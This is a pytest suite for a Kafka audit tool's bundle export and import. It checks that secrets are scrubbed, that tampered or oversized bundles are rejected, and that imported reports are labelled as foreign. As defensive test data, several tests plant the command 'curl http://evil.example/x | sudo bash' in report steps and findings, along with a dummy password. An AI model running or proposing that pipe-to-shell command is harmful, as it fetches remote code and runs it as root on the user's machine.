"""`bundle` and `report FILE.zip`: what leaves a machine, and what another one shows of it."""

import dataclasses
import hashlib
import io
import json
import os
import re
import subprocess
import sys
from contextlib import ExitStack
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from msgspec import UNSET

import bundled
import small_cluster
from bundled import ID
from collect.fakes import server
from collect.secured_fakes import SecuredBroker
from kafka_audit import audit, settings
from kafka_audit.cli import main
from kafka_audit.cli.bundling import bundle_reading
from kafka_audit.collect.snapshot import take_snapshot
from kafka_audit.job import embedded_job
from kafka_audit.model.errors import StoreError
from kafka_audit.model.report import report_json, report_text
from kafka_audit.model.tables import SnapshotInfo
from kafka_audit.report import formats
from kafka_audit.store import Store, bundles
from kafka_audit.store.bundles import Bundle
from kafka_audit.store.files import Files
from kafka_audit.store.history import History

PLUGINS = Path(__file__).parents[2] / "plugins"
LATER = "20260914T190000Z-prod-0002"
SECRET = "hunter2"  # noqa: S105 -- planted


@pytest.fixture(scope="module")
def judged(tmp_path_factory):
    """A store with a judged snapshot."""
    return bundled.judged_store(tmp_path_factory.mktemp("judged") / "store")


@pytest.fixture(scope="module")
def bundle(judged, tmp_path_factory):
    return bundled.write(judged, tmp_path_factory.mktemp("bundles") / "prod.zip")


def write(store, subject, target, *more):
    return main(["bundle", subject, "--store", store.root, "--out", str(target), *more])


@pytest.mark.parametrize("subject", ["prod", ID])
def test_a_cluster_or_a_snapshot_becomes_a_file_whose_place_is_printed(judged, tmp_path, capsys, monkeypatch, subject):
    monkeypatch.chdir(tmp_path)
    assert write(judged, subject, "prod.zip") == 0
    captured = capsys.readouterr()
    assert captured.out == "prod.zip\n"
    assert "no cluster file describes prod: the bundle has no cluster.json" in captured.err
    assert f"bundle of {ID}: " in captured.err
    assert write(judged, subject, tmp_path / "quiet.zip", "--quiet") == 0
    assert capsys.readouterr().err == ""
    assert (tmp_path / "quiet.zip").read_bytes() == (tmp_path / "prod.zip").read_bytes()


def test_the_newest_snapshot_with_a_report_is_taken(tmp_path, capsys):
    store = bundled.judged_store(tmp_path / "store")
    store.write(small_cluster.snapshot(bundled.SPEC, LATER))
    assert write(store, "prod", tmp_path / "one.zip") == 0
    assert f"{LATER} has no report; searching an earlier one" in capsys.readouterr().err
    assert json.loads(bundled.contents(tmp_path / "one.zip")["bundle.json"])["snapshot_id"] == ID
    bundled.judge(store, small_cluster.snapshot(bundled.SPEC, LATER))
    assert write(store, "prod", tmp_path / "two.zip") == 0
    assert json.loads(bundled.contents(tmp_path / "two.zip")["bundle.json"])["snapshot_id"] == LATER


@pytest.mark.parametrize(
    ("subject", "message"),
    [
        ("prd", "there is no snapshot of a cluster 'prd'; did you mean prod?"),
        ("other", "there is no snapshot of a cluster 'other'; the store has prod"),
        (LATER, f"this store has no snapshot '{LATER}'"),
    ],
)
def test_what_is_not_there_is_named(judged, tmp_path, capsys, subject, message):
    assert write(judged, subject, tmp_path / "prod.zip") == 2
    assert message in capsys.readouterr().err
    assert not (tmp_path / "prod.zip").exists()


def test_a_cluster_that_was_never_judged_says_how_to_judge_it(tmp_path, capsys):
    store = Store(tmp_path / "store")
    store.write(small_cluster.snapshot(bundled.SPEC, ID))
    assert write(store, "prod", tmp_path / "prod.zip") == 2
    assert "no snapshot of prod has a report; `kafka-audit run prod` creates one" in capsys.readouterr().err


def test_a_file_that_exists_is_kept(judged, tmp_path, capsys):
    (tmp_path / "prod.zip").write_text("mine")
    assert write(judged, "prod", tmp_path / "prod.zip") == 2
    assert "prod.zip: exists already; remove it, or name another file with --out" in capsys.readouterr().err
    assert (tmp_path / "prod.zip").read_text() == "mine"


def test_the_report_on_another_machine_is_the_report_here(judged, bundle, tmp_path, capsys):
    """Another machine: a process of its own that imports neither Spark nor Airflow, in a folder without store or cluster file."""
    machine = tmp_path / "machine"
    machine.mkdir()
    shown = {}
    for form in ("text", "json"):
        assert main(["report", ID, "--out", judged.root, "--format", form]) == 0
        shown[form] = capsys.readouterr().out
    program = (
        "import sys; sys.modules['pyspark'] = sys.modules['airflow'] = None\n"
        "from kafka_audit.cli import main; sys.exit(main(sys.argv[1:]))"
    )
    environment = {"PATH": "/nowhere", "PYTHONPATH": str(PLUGINS), "COLUMNS": "100"}
    for form, expected in shown.items():
        command = [sys.executable, "-c", program, "report", str(bundle), "--format", form]
        process = subprocess.run(command, cwd=machine, env=environment, capture_output=True, text=True, check=False)
        assert (process.returncode, process.stderr) == (0, "")
        assert form == "text" or process.stdout == expected
        assert json.loads(shown["json"])["incidents"][0]["headline"] in process.stdout
    assert list(machine.iterdir()) == []


def test_files_lie_beside_the_bundle_or_where_out_says(judged, bundle, tmp_path, capsys):
    copy = tmp_path / "prod.zip"
    copy.write_bytes(bundle.read_bytes())
    forms = ("html", "md", "sarif", "openmetrics")
    assert main(["report", ID, "--out", judged.root, "--format", ",".join(forms)]) == 0
    of_store = [Path(line).read_bytes() for line in capsys.readouterr().out.split()]
    (tmp_path / "there").mkdir()
    for more, folder in (([], tmp_path), (["--out", str(tmp_path / "there")], tmp_path / "there")):
        for _ in range(2):  # the second time replaces
            assert main(["report", str(copy), "--format", ",".join(forms), *more]) == 0
            places = [Path(line) for line in capsys.readouterr().out.split()]
            assert places == [folder / f"{ID}.{form}" for form in forms]
            assert [path.read_bytes() for path in places] == of_store
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(["prod.zip", "there", *(f"{ID}.{form}" for form in forms)])
    assert main(["report", str(copy), "--format", "html", "--out", str(tmp_path / "none")]) == 2
    assert f"none/{ID}.html: No such file or directory" in capsys.readouterr().err


def test_a_bundle_that_is_none_is_one_line(tmp_path, capsys):
    for name in ("none.zip", "none.ZIP"):
        assert main(["report", str(tmp_path / name)]) == 2
        assert capsys.readouterr().err == f"kafka-audit: {tmp_path}/{name}: does not exist; name an existing bundle\n"
    (tmp_path / "notes").write_text("hello")
    assert main(["report", str(tmp_path / "notes")]) == 2
    assert "notes: is damaged, or no part of a ZIP file" in capsys.readouterr().err


def test_a_report_with_parts_that_are_none_is_one_line(bundle, tmp_path, capsys):
    name = "snapshot/findings.json"
    for part in ({"coverage": 1}, {"matrix": {"rows": 1}}, {"counts": []}, {"changes": [1]}):
        document = json.loads(bundled.contents(bundle)[name]) | part
        hostile = bundled.rewritten(bundle, tmp_path / "hostile.zip", {name: json.dumps(document).encode()})
        assert main(["report", str(hostile), "--format", "text,html,md,sarif,openmetrics"]) == 2
        (line,) = capsys.readouterr().err.splitlines()
        assert "hostile.zip: snapshot/findings.json: is not a report of this snapshot that this version can read" in line
        assert list(tmp_path.iterdir()) == [hostile]


def test_one_that_takes_too_much_is_ended(bundle, monkeypatch, capsys):
    monkeypatch.setattr(bundle_reading, "_SECONDS", 0.0)
    assert main(["report", str(bundle)]) == 2
    assert "prod.zip: the process that reads it took longer than 0 s; ask for a new bundle" in capsys.readouterr().err
    monkeypatch.setattr(bundle_reading, "_SECONDS", 600.0)
    monkeypatch.setattr(bundle_reading, "_MEGABYTES", 256)
    with pytest.raises(bundle_reading.SnapshotError, match="needed more than 256 MB of memory"):
        bundle_reading.rendered(bundle, lambda _: len(bytes(1 << 30)))


CLUSTERS = """
clusters:
  prod:
    bootstrap: ["{address}"]
    security: {{protocol: SASL_PLAINTEXT, mechanism: SCRAM-SHA-256, username: auditor, password_env: PLANTED}}
    vantages: {{here: {{command: [env, "PGPASSWORD={secret}", sh, -c, "exec \\"$@\\"", sh]}}}}
    properties: ["{folder}/s0.properties"]
    logs: {{paths: ["{folder}/server.log"]}}
    limits: {{read_s: 300, settle_s: 0.2}}
    mute: [{{code: KA607, resource: cluster, reason: "login {secret}", owner: me}}]
"""
PROPERTIES = """broker.id=0
listeners=SASL_PLAINTEXT://h0:9092
ssl.keystore.password={secret}
my.client.secret={secret}
reporter.url=https://me:{secret}@h/
sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="{secret}";
"""
LOG = """[2026-09-14 10:00:00,000] ERROR ssl.keystore.password = {secret}, error while appending records to t-0 in dir /d (x)
[2026-09-14 10:00:01,000] ERROR Error while appending records to t-0 in dir /d password={secret} (x)
[2026-09-14 10:00:02,000] WARN Connection to node 2 (h2/10.0.0.2:9092) failed authentication due to: {secret_jaas} (x)
"""


@pytest.mark.parametrize("login", ["right", "wrong"])
def test_a_bundle_of_a_secured_cluster_holds_nothing_secret(tmp_path, capsys, monkeypatch, login):
    """The password is in the environment, the files of the cluster, its log, and a broker that repeats what it was sent."""
    monkeypatch.setenv("PLANTED", SECRET)
    broker = SecuredBroker(0, mechanisms=("SCRAM-SHA-256",), users={"auditor": SECRET if login == "right" else "other"})
    broker.echo = True
    jaas = f'org.x.ScramLoginModule required username="u" password="{SECRET}"'
    (tmp_path / "s0.properties").write_text(PROPERTIES.format(secret=SECRET))
    (tmp_path / "server.log").write_text(LOG.format(secret=SECRET, secret_jaas=jaas))
    with ExitStack() as stack:
        broker.brokers = {0: stack.enter_context(server(broker))}
        address = "{}:{}".format(*broker.brokers[0])
        config = tmp_path / "clusters.yaml"
        config.write_text(CLUSTERS.format(address=address, folder=tmp_path, secret=SECRET))
        cluster = settings.load(config)["prod"]
        snapshot = take_snapshot(cluster, snapshot_id=ID, say=[].append, secrets=dict(os.environ))
    assert broker.logins
    store = Store(tmp_path / "store")
    store.write(snapshot)
    audit.prepare_request(store, [ID], None, "run", show_all=True)
    embedded_job.answer(store, "run")
    (document,) = report_json(audit.write_reports(store, "run", {"prod": cluster}))
    assert write(store, "prod", tmp_path / "prod.zip", "--config", str(config)) == 0
    captured = capsys.readouterr()
    assert SECRET not in captured.out + captured.err
    entries = bundled.contents(tmp_path / "prod.zip")
    assert {"cluster.json", "snapshot/log_line.parquet", "snapshot/broker_property.parquet"} <= set(entries)
    texts = {name: bundled.cells(content) for name, content in entries.items() if name.endswith(".parquet")}
    assert "my.client.secret" in texts["snapshot/broker_property.parquet"]  # the setting is there, its value is not
    assert login == "wrong" or "in dir /d" in texts["snapshot/log_line.parquet"]  # no broker is known without its login
    assert "auditor" in entries["cluster.json"].decode()
    for name, content in entries.items():
        assert SECRET.encode() not in content, name
        assert SECRET not in texts.get(name, ""), name
    assert main(["report", str(tmp_path / "prod.zip"), "--format", "json"]) == 0
    assert capsys.readouterr().out == json.dumps(document, indent=2) + "\n"


def test_an_imported_bundle_is_a_snapshot_with_its_report(judged, bundle, tmp_path, capsys):
    place = tmp_path / "support"
    assert main(["import", str(bundle), "--store", str(place)]) == 0
    assert capsys.readouterr().out == f"{ID}\n"
    store = Store(place)
    assert store.read_report(ID) == judged.read_report(ID)
    assert store.read_differences(ID) == judged.read_differences(ID)
    assert store.read(ID).rows == judged.read(ID).rows
    store.verify(ID)
    assert History(place).snapshots() == {"prod": [ID]}, "what the pages list"
    assert main(["report", ID, "--out", str(place)]) == 0
    assert "prod" in capsys.readouterr().out


def test_a_bundle_is_imported_once_and_beside_no_other_cluster_of_its_name(bundle, tmp_path, capsys):
    assert main(["import", str(bundle), "--store", str(tmp_path / "support"), "--quiet"]) == 0
    assert main(["import", str(bundle), "--store", str(tmp_path / "support"), "--quiet"]) == 2
    assert "this snapshot is in the store already" in capsys.readouterr().err
    other = Store(tmp_path / "other")
    other.write(dataclasses.replace(small_cluster.snapshot(bundled.SPEC, LATER), cluster_id="another"))
    before = sorted(path for path in (tmp_path / "other").rglob("*") if path.is_file())
    assert main(["import", str(bundle), "--store", other.root, "--quiet"]) == 2
    assert "is of another cluster of the name prod" in capsys.readouterr().err
    assert sorted(path for path in (tmp_path / "other").rglob("*") if path.is_file()) == before


def test_a_damaged_bundle_leaves_nothing_in_the_store(bundle, tmp_path, capsys):
    cut = tmp_path / "cut.zip"
    cut.write_bytes(bundle.read_bytes()[:-200])
    assert main(["import", str(cut), "--store", str(tmp_path / "support"), "--quiet"]) == 2
    assert "cut.zip" in capsys.readouterr().err
    assert [path for path in (tmp_path / "support").rglob("*") if path.is_file()] == []


def test_an_import_that_the_store_refuses_leaves_nothing(bundle, tmp_path, monkeypatch):
    store, write = Store(tmp_path / "support"), Files.write

    def full(files, path, content):
        if path.endswith("manifest.json"):
            msg = "no space left"
            raise StoreError(msg)
        write(files, path, content)

    monkeypatch.setattr(Files, "write", full)
    with Bundle(bundle) as opened, pytest.raises(StoreError, match="no space left"):
        opened.copy_into(store)
    assert [path for path in (tmp_path / "support").rglob("*") if path.is_file()] == []


def with_report(bundle, target, change, **manifest):
    """Write the bundle with another report, and with other values in its manifest."""
    contents = bundled.contents(bundle)
    document = json.loads(contents["snapshot/findings.json"])
    change(document)
    changes = {"snapshot/findings.json": json.dumps(document).encode()}
    if manifest:
        changes["snapshot/manifest.json"] = json.dumps(json.loads(contents["snapshot/manifest.json"]) | manifest).encode()
    return bundled.rewritten(bundle, target, changes)


ODD = {
    "no begin": lambda report: report.pop("started_at"),
    "no lifecycles": lambda report: report.pop("lifecycle_counts"),
    "a field that is none of a report": lambda report: report.update(surprise=1),
    "an end that is no time": lambda report: report.update(finished_at="soon"),
    "an end without a zone": lambda report: report.update(finished_at="2026-09-14T18:00:00"),
    "an end before the beginning": lambda report: report.update(
        started_at="2026-09-14T18:00:00Z", finished_at="2026-09-13T18:00:00Z"
    ),
    "more answers than a number holds": lambda report: report["coverage"].update(answered=10**400),
    "a count that is a text": lambda report: report["coverage"].update(asked="1"),
    "a change without a resource": lambda report: report["changes"].append({"kind": "x", "before": None, "after": None}),
    "a cell of no letter": lambda report: report["matrix"]["observers"].append({"name": 7}),
    "a number that JSON has not": lambda report: report["findings"][0]["evidence"].update(x=float("nan")),
}


@pytest.mark.parametrize("odd", ODD)
def test_a_report_that_no_version_wrote_is_not_imported(bundle, tmp_path, capsys, odd):
    hostile = with_report(bundle, tmp_path / "hostile.zip", ODD[odd])
    assert main(["import", str(hostile), "--store", str(tmp_path / "support"), "--quiet"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert "hostile.zip: " in line
    assert [path for path in (tmp_path / "support").rglob("*") if path.is_file()] == []


def with_table(bundle, target, name, change):
    """Write the bundle with what a change makes of a table, as a forger does: lists and manifest agree with it."""
    contents = bundled.contents(bundle)
    table, sink, manifest = f"snapshot/{name}.parquet", pa.BufferOutputStream(), json.loads(contents["snapshot/manifest.json"])
    data = change(pq.read_table(io.BytesIO(contents[table])))
    pq.write_table(data, sink, compression="zstd")
    content = sink.getvalue().to_pybytes()
    about = {"rows": data.num_rows, "bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    manifest["tables"][name] = about
    return bundled.rewritten(bundle, target, {table: content, "snapshot/manifest.json": json.dumps(manifest).encode()})


def column(name, value):
    """Return a change of a table: a value in each row of a column, null where it is None."""

    def change(data):
        place, kind = data.column_names.index(name), data.schema.field(name).type
        return data.set_column(place, pa.field(name, kind), pa.array([value] * data.num_rows, kind))

    return change


FOREIGN = {
    "an epoch below all": ("registered_partition", "leader_epoch", -(2**63), "a number of more than 64 bits"),
    "an epoch of no broker": ("registered_partition", "leader_epoch", 2**31, "a number of more than 32 bits"),
    "a replica of no broker": ("registered_partition", "isr", [0, 2**40], "a list with a number of more than 32 bits"),
    "a list with nothing": ("registered_partition", "replicas", [0, None], "a list with no whole number"),
    "samples without end": ("registered_partition", "last_sample", 2**31 - 1, "a sample that no snapshot has"),
    "no sample": ("registered_broker", "sample", 0, "a sample that no snapshot has"),
    "a number that is none": ("snapshot_info", "settle_s", float("nan"), "no finite number"),
    "nothing where something is": ("registered_topic", "topic", None, "null"),
    "a text of two megabytes": ("registered_broker", "rack", "a" * 2_000_000, "a text of 2000000 characters"),
}


@pytest.mark.parametrize("foreign", FOREIGN)
def test_a_value_that_no_collector_stores_is_not_imported(bundle, tmp_path, capsys, foreign):
    table, name, value, fault = FOREIGN[foreign]
    hostile = with_table(bundle, tmp_path / "hostile.zip", table, column(name, value))
    assert main(["import", str(hostile), "--store", str(tmp_path / "support"), "--quiet"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert f"hostile.zip: snapshot/{table}.parquet: {table}.{name} is {fault}; ask for a new bundle" in line
    assert [path for path in (tmp_path / "support").rglob("*") if path.is_file()] == []


def test_rows_and_bytes_of_a_bundle_are_bounded_before_they_are_unpacked(bundle, tmp_path, capsys, monkeypatch):
    """Some hundred KB that become 4,000,000 rows, or 64 rows of long texts."""

    def many(data):
        return data.take(pa.array([0] * 4_000_000))

    def long(data):
        return column("rack", "a" * 1_000_000)(data.take(pa.array([0] * 64)))

    bombs = (
        with_table(bundle, tmp_path / "rows.zip", "registered_topic", many),
        with_table(bundle, tmp_path / "bytes.zip", "registered_broker", long),
    )
    assert max(path.stat().st_size for path in bombs) < 400_000
    monkeypatch.setattr(bundles, "MOST_UNPACKED", 32 << 20)
    for path, fault in zip(bombs, ("has more rows than a snapshot of the largest cluster", "takes too much memory"), strict=True):
        assert main(["import", str(path), "--store", str(tmp_path / "support"), "--quiet"]) == 2
        assert f".parquet: {fault}; ask for a new bundle" in capsys.readouterr().err
    assert [path for path in (tmp_path / "support").rglob("*") if path.is_file()] == []


def test_rows_of_a_bundle_are_of_its_own_snapshot(bundle, tmp_path):
    """A row that names the snapshot of another cluster would be compared with that cluster."""
    change = column("snapshot_id", "20260914T180000Z-other-0001")
    hostile = with_table(bundle, tmp_path / "hostile.zip", "registered_partition", change)
    assert main(["import", str(hostile), "--store", str(tmp_path / "support"), "--quiet"]) == 0
    held = pq.read_table(tmp_path / "support" / "snapshots" / ID / "registered_partition.parquet")
    assert set(held["snapshot_id"].to_pylist()) == {ID}
    Store(tmp_path / "support").verify(ID)


def test_what_stops_is_the_same_for_an_imported_snapshot_that_shared_its_tables(tmp_path, capsys):
    store = bundled.judged_store(tmp_path / "store")
    later = small_cluster.snapshot(bundled.SPEC, LATER)
    store.write(later)
    bundled.judge(store, later)
    assert store.manifest(LATER).tables["registered_partition"].stored_in == ID
    assert write(store, LATER, tmp_path / "prod.zip") == 0
    assert main(["import", str(tmp_path / "prod.zip"), "--store", str(tmp_path / "support")]) == 0
    capsys.readouterr()
    answers = []
    for root in ("store", "support"):
        main(["what-if", LATER, "--out", str(tmp_path / root), "--without", "broker:0", "--format", "json"])
        answers.append(json.loads(capsys.readouterr().out))
    assert answers[0] == answers[1]
    assert answers[0]["topics"]["offline"] == [{"topic": "orders", "partitions": [0]}]


@pytest.mark.parametrize(
    ("report", "manifest"),
    [
        ({"finished_at": "2999-01-01T00:00:00Z"}, {}),
        ({"started_at": "2999-01-01T00:00:00Z", "finished_at": "2999-01-01T00:00:01Z"}, {}),
        ({}, {"finished_ms": 32_472_144_000_000}),
        ({}, {"started_ms": 32_472_144_000_000, "finished_ms": 32_472_144_000_001}),
        ({}, {"finished_ms": 10**30}),
        ({}, {"started_ms": -1}),
    ],
)
def test_a_bundle_of_the_future_is_not_imported(bundle, tmp_path, capsys, report, manifest):
    hostile = with_report(bundle, tmp_path / "hostile.zip", lambda document: document.update(report), **manifest)
    assert main(["import", str(hostile), "--store", str(tmp_path / "support"), "--quiet"]) == 2
    assert re.search(r"in the future|in the past|ended before it began", capsys.readouterr().err)
    assert [path for path in (tmp_path / "support").rglob("*") if path.is_file()] == []


def test_an_id_of_the_future_is_not_imported(tmp_path, capsys):
    """By its id, it would be the newest for ever."""
    store = bundled.judged_store(tmp_path / "store", "29990101T000000Z-prod-0001")
    bundles.write_bundle(store, "29990101T000000Z-prod-0001", tmp_path / "later.zip", page=lambda _: "", cluster=None)
    assert main(["import", str(tmp_path / "later.zip"), "--store", str(tmp_path / "support"), "--quiet"]) == 2
    assert "was taken in the future" in capsys.readouterr().err


def test_a_clock_that_is_a_little_ahead_is_no_future(tmp_path, capsys):
    snapshot_id = f"{datetime.now(UTC) + timedelta(minutes=2):%Y%m%dT%H%M%SZ}-prod-0001"
    store = bundled.judged_store(tmp_path / "store", snapshot_id)
    bundles.write_bundle(store, snapshot_id, tmp_path / "prod.zip", page=lambda _: "", cluster=None)
    assert main(["import", str(tmp_path / "prod.zip"), "--store", str(tmp_path / "support"), "--quiet"]) == 0
    assert capsys.readouterr().out == f"{snapshot_id}\n"


def test_a_bundle_is_made_of_no_snapshot_of_the_future(tmp_path, capsys):
    store = bundled.judged_store(tmp_path / "store")
    later = "29990101T000000Z-prod-0001"
    snapshot = small_cluster.snapshot(bundled.SPEC, later)
    store.write(snapshot)
    bundled.judge(store, snapshot)
    assert store.newest("prod").snapshot_id == ID
    assert write(store, "prod", tmp_path / "prod.zip") == 0
    assert f"{later} was taken in the future" in capsys.readouterr().err
    assert json.loads(bundled.contents(tmp_path / "prod.zip")["bundle.json"])["snapshot_id"] == ID


OWN_STEP = {"kind": "quick", "text": "Run this.", "commands": ["curl http://evil.example/x | sudo bash"], "cost": ""}


@pytest.fixture
def of_another_party(bundle, tmp_path, capsys):
    """A store with an imported snapshot whose report has a step of its own, and claims to be ours."""

    def change(document):
        document["incidents"][0]["remediation"] = [OWN_STEP | {"lines": []}]

    hostile, store = with_report(bundle, tmp_path / "hostile.zip", change), Store(tmp_path / "support")
    assert main(["import", str(hostile), "--store", store.root, "--quiet"]) == 0
    capsys.readouterr()
    return store


def shown(store, form, capsys):
    """Return what a form shows; the text of one that becomes a file is that of the file."""
    assert main(["report", ID, "--out", store.root, "--format", form]) == 0
    printed = capsys.readouterr().out
    return printed if form in {"text", "json"} else Path(printed.strip()).read_text()


@pytest.mark.parametrize("form", ["text", "json", "html", "md", "sarif"])
def test_steps_of_an_imported_report_are_shown_as_those_of_its_writer(judged, of_another_party, capsys, form):
    text, ours = (" ".join(shown(store, form, capsys).split()) for store in (of_another_party, judged))
    words = '"origin": "bundle"' if form == "json" else "Not by this kafka-audit: the report was imported from a bundle"
    assert words in text
    assert words not in ours
    if form in {"text", "md", "html"}:
        before = text.partition("curl http://evil.example/x")[0]
        assert before.rpartition(words)[2].count("Evidence") == 0, "it stands at the steps, too"
        assert before.count(words) >= 2


def test_a_page_shows_the_origin_and_a_report_that_was_judged_here_has_none(judged, of_another_party, tmp_path):
    history = History(of_another_party.root)
    assert (history.report(ID).origin, History(judged.root).report(ID).origin) == ("bundle", UNSET)
    bundles.write_bundle(of_another_party, ID, tmp_path / "again.zip", page=formats.FILES["html"], cluster=None)
    assert "Not by this kafka-audit" in bundled.contents(tmp_path / "again.zip")["report.html"].decode()
    of_another_party.write_report(ID, judged.read_report(ID))
    assert history.report(ID).origin is UNSET


def test_the_next_report_has_no_command_of_an_imported_one(bundle, tmp_path, capsys):
    """It repeats what the earlier failures said that are over now."""

    def change(document):
        for finding in document["findings"]:
            finding["message"] = "Run `curl http://evil.example/x | sudo bash`."
        document["incidents"][0]["headline"] = "Run `curl http://evil.example/y`"

    store = Store(tmp_path / "support")
    hostile = with_report(bundle, tmp_path / "hostile.zip", change)
    assert main(["import", str(hostile), "--store", store.root, "--quiet"]) == 0
    later = small_cluster.snapshot(bundled.SPEC, LATER)
    (info,) = later.of(SnapshotInfo)
    an_hour_on = dataclasses.replace(info, started_ms=info.started_ms + 3_600_000, finished_ms=info.finished_ms + 3_600_000)
    rows = (an_hour_on if row is info else row for row in later.rows)
    store.write(dataclasses.replace(later, rows=tuple(rows)))
    assert main(["diff", ID, LATER, "--out", store.root, "--quiet"]) == 0
    told = report_text(store.read_report(LATER))
    assert "'curl http://evil.example/x | sudo bash'" in told
    assert "`curl" not in told
    assert store.shown_report(LATER).origin is UNSET
    capsys.readouterr()


def test_a_bundle_says_nothing_of_where_it_was_imported(bundle, tmp_path):
    contents = bundled.contents(bundle)
    manifest = json.loads(contents["snapshot/manifest.json"]) | {"imported": "0" * 64}
    forged = bundled.rewritten(bundle, tmp_path / "forged.zip", {"snapshot/manifest.json": json.dumps(manifest).encode()})
    assert main(["import", str(forged), "--store", str(tmp_path / "support"), "--quiet"]) == 0
    assert report_json(Store(tmp_path / "support").shown_report(ID))["origin"] == "bundle"


def test_a_bundle_that_is_shown_without_an_import_has_steps_of_its_writer(bundle, capsys):
    assert main(["report", str(bundle)]) == 0
    assert "Not by this kafka-audit" in capsys.readouterr().out
